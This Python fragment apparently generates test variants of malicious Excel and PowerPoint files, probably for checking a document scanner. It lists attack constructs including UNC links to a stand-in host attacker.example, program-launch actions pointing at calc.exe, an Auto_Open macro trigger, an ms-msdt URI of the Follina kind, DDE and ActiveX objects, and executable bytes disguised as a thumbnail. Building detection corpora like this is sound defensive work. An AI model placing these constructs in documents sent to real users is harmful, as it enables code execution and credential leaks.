        "sheet-hyperlink-unc": partial(sheet_hyperlink, r"\\attacker.example\share\a.exe"),
        "webPublishObject-unc": web_publish,
        "chart-externalData-file": chart_external_data,
        "externalLink-oleLink-file": external_ole_link,
    }
    for construct, build in excel.items():
        out.append(Variant("package", construct, "plain", "excel", "excel.xlsx", build))
    calc = "file:///C:/Windows/System32/calc.exe"
    slides: dict[tuple[str, str], Callable[[Package], None]] = {
        ("action-program", "shape-click"): partial(action, calc, "ppaction://program", "hlinkClick", SLIDE),
        ("action-program", "shape-hover"): partial(action, calc, "ppaction://program", "hlinkHover", SLIDE),
        ("action-program", "layout-shape"): partial(action, calc, "ppaction://program", "hlinkClick",
                                                    "ppt/slideLayouts/slideLayout7.xml"),
        ("action-macro", "shape-click"): partial(action, None, "ppaction://macro?name=Auto_Open", "hlinkClick", SLIDE),
        ("action-ole-verb", "shape-click"): partial(action, None, "ppaction://ole?verb=0", "hlinkClick", SLIDE),
        ("hyperlink-file", "shape-click"): partial(action, calc, "", "hlinkClick", SLIDE),
        ("hyperlink-file", "text-run"): partial(run_link, calc),
        ("hyperlink-unc", "text-run"): partial(run_link, r"\\attacker.example\share\a.exe"),
        ("hyperlink-ms-msdt", "text-run"): partial(run_link, "ms-msdt:/id PCWDiagnostic /skip force"),
        ("ole-embedded", "slide"): partial(slide_ole, "embedded"),
        ("ole-package-xlsx-with-dde", "slide"): partial(slide_ole, "package-with-dde"),
        ("ole-linked-file", "slide"): partial(slide_ole, "linked"),
        ("action-hlinkfile", "shape-click"): partial(action, calc, "ppaction://hlinkfile", "hlinkClick", SLIDE),
        ("action-hlinkpres", "shape-click"): partial(action, r"\\attacker.example\share\p.pptx",
                                                     "ppaction://hlinkpres?slideindex=1&amp;slidetitle=", "hlinkClick",
                                                     SLIDE),
        ("sound-external-unc", "shape-click"): partial(slide_media, "sound"),
        ("video-external-unc", "shape"): partial(slide_media, "video"),
        ("activeX-control", "slide"): slide_activex,
        ("timing-cmd-verb", "slide"): timing_verb,
        ("printerSettings-is-PE", "presentation"): partial(replace_bytes, "ppt/printerSettings/printerSettings1.bin",
                                                           pe_bytes()),
        ("thumbnail-is-PE", "package"): partial(replace_bytes, "docProps/thumbnail.jpeg", pe_bytes()),
    }
    for (construct, where), build in slides.items():
        out.append(Variant("powerpoint", construct, "plain", where, "slides.pptx", build))
    return out
